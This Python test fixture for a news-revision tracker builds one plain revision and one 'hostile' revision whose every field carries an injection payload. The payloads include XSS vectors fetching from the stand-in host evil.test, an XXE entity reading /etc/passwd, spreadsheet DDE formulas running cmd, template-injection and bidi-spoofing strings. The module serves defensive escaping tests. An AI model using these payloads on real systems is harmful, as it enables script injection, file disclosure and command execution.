"""Revisions to report: one as it comes, and one whose page says everything that harms."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import revtrack
from revtrack.model import Article, Note, NoteKind, Reported, Story

START = datetime(2024, 11, 20, 9, tzinfo=UTC)
PAYLOADS = (
    "<script>fetch('//evil.test')</script>",
    '"><img src=x onerror=alert(1)>',
    "<iframe src=javascript:alert(1)></iframe>",
    "</content></entry><entry>",
    "]]><!-- --><?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "&lt;b&gt; &#60;script&#62;",
    "\x00\x01\x08\x1b[2J\ufffe\ud800 \u202e\u2066",
    '=HYPERLINK("http://evil.test";"x")',
    "a;=cmd|' /C calc'!A0;b",
    "![x](http://evil.test/p.png) [y](javascript:alert(1)) `code` | --- |",
    "<style>*{display:none}</style><svg/onload=alert(1)>",
    "<!channel> @everyone <http://evil.test|click>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<svg><script>alert(1)</script></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.test><input name=x autofocus onfocus=alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<template><img src=//evil.test/x></template>",
    "</title><script>alert(1)</script>",
    "</style></textarea></noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "{{ 7 * 7 }} {% import os %} ${7*7} #{7*7}",
    "@import url(//evil.test/x.css);",
    '" style="background:url(//evil.test)" x="',
    "<del onmouseover=alert(1)>12</del><ins style=position:fixed>21</ins>",
    '<p dir="auto" id=x>',
    "\u2028\u2029\u0085 line ends",
    "\u202egnp.exe\u2069 \u200f",
    "\ufeff=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A=1+1\n=2+2",
    "[click](<javascript:alert(1)>) <javascript:alert(1)> ||spoiler|| ~~x~~ **y**",
)


def reported(old, new, *, seen_at=START, judged_at=None, article=None, link="", notes=()):
    """Return the step between two lists of a headline and paragraphs, as a report has it."""
    before, after = (Story.from_paragraphs(texts[0], texts[1:]) for texts in (old, new))
    revision = replace(
        revtrack.compare(before, replace(after, notes=tuple(notes))),
        url="https://a.test/storm",
        old=1,
        new=2,
        after=seen_at - timedelta(hours=3),
        seen_at=seen_at,
        last_seen=seen_at,
    )
    article = article or Article(7, "https://a.test/storm", headline=new[0], source="https://a.test/feed.xml")
    return Reported(article, revision, judged_at or seen_at, link=link)


def plain():
    """Return an edit of a number without a note."""
    return reported(
        ["Storm hits coast", "The storm killed 12 people on Monday, officials said.", "The bridge stays closed."],
        ["Storm hits coast", "The storm killed 21 people on Monday, officials said.", "The bridge stays closed."],
    )


def hostile():
    """Return a revision with a payload in every field that a page fills."""
    old = [f"Headline {PAYLOADS[1]}", *(f"Before {payload} stood here in the old text." for payload in PAYLOADS)]
    new = [f"{PAYLOADS[0]} headline", *(f"After {payload} stands here in another text 9." for payload in PAYLOADS)]
    article = Article(7, "javascript:alert(1)//\x1b]0;x\x07", headline=PAYLOADS[0], source="=cmd|' /C calc'!A0")
    notes = [Note(f"Correction: {payload}", NoteKind.CORRECTION) for payload in PAYLOADS]
    report = reported(old, new, article=article, link="javascript:alert(2)", notes=notes)
    return replace(report, origin=PAYLOADS[4])
